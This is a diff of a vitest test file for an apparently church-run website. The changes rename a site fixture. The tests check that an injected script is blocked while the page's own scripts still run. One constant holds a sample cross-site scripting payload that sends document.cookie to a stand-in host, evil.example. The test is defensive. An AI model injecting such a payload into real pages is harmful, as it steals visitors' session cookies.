@@ -1,8 +1,8 @@
 import { createHash } from 'node:crypto'
 import { expect, test } from 'vitest'
-import { SENT_GIFT } from '../sent-forms.ts'
+import { SENT_GIFT } from '../fixtures/sent-forms.ts'
 import { ADDRESSES } from './addresses.ts'
-import { trialSite } from './trial-site.ts'
+import { testSite } from './site-fixture.ts'
 
 const HOSTILE = 'fetch("https://evil.example/?"+document.cookie)'
 
@@ -19,7 +19,7 @@ function inlineScripts(html: string): string[] {
 }
 
 test('an injected script may not run, the page’s own scripts may', async () => {
-  const { url } = await trialSite({
+  const { url } = await testSite({
     around: (renderPage) => async (request, services) => {
       const page = await renderPage(request, services)
       const html = (await page.text()).replace('<main', `<script>${HOSTILE}</script><main`)
@@ -36,7 +36,7 @@ test('an injected script may not run, the page’s own scripts may', async () =>
 })
 
 test('every page may run all of its own scripts, and does not reveal how they are marked', async () => {
-  const { site } = await trialSite()
+  const { site } = await testSite()
   const ask = async (path: string, init = {}) =>
     site.fetch(new Request(`http://church.test${path}`, init))
   const given = await ask('/give', {
